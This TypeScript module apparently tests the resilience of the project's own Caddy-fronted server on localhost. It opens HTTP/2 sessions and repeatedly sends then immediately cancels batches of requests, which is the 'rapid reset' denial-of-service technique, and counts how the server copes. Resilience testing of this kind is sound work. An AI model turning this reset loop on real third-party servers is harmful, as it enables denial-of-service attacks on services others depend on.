import { type ClientHttp2Session, connect, constants } from 'node:http2'
import type { Came, Plan, Target } from './plan.ts'

/** So many at once as Caddy takes on one connection. */
const AT_ONCE = 200
const SESSIONS_AT_MOST = 50
/** Of those that do not begin: a site without HTTP/2 never will, and none of ours has it. */
const REFUSALS_AT_MOST = 3

/** Asks and takes it back at once, `count` times, on a new connection whenever the server has had enough of one. */
export async function reset(target: Target, plan: Plan): Promise<Came> {
  const came: Came = { opened: 0, failed: 0, statuses: {}, ended: 0, held: 0 }
  const until = Date.now() + plan.holdMs
  for (let n = 0; n < SESSIONS_AT_MOST && came.failed < REFUSALS_AT_MOST && Date.now() < until; n++) {
    if (came.opened >= plan.count) break
    const session = await sessionTo(target, plan)
    if (session === undefined) {
      came.failed += 1
      continue
    }
    while (came.opened < plan.count && Date.now() < until && !session.closed && !session.destroyed) {
      came.opened += await resetMany(session, target, Math.min(AT_ONCE, plan.count - came.opened))
    }
    if (session.destroyed) came.ended += 1
    session.destroy()
  }
  return came
}

function sessionTo({ port, cert, key }: Target, { ca, from }: Plan): Promise<ClientHttp2Session | undefined> {
  const proof = cert === undefined ? {} : { cert, key }
  const where = { ca, ...proof, servername: 'localhost', localAddress: from, ALPNProtocols: ['h2'] }
  const session = connect(`https://127.0.0.1:${port}`, where)
  return new Promise(resolve => {
    session.once('connect', () => resolve(session))
    session.on('error', () => resolve(undefined))
  })
}

async function resetMany(session: ClientHttp2Session, { port }: Target, count: number): Promise<number> {
  const headers = { ':path': '/v1/whoami', ':authority': `localhost:${port}` }
  const streams = Array.from({ length: count }, () => {
    const stream = session.request(headers)
    return stream.on('error', () => {})
  })
  await turn() // so that each request is on its way before it is taken back
  for (const stream of streams) stream.close(constants.NGHTTP2_CANCEL)
  await turn()
  return streams.length
}

const turn = () => new Promise(resolve => setTimeout(resolve, 1))
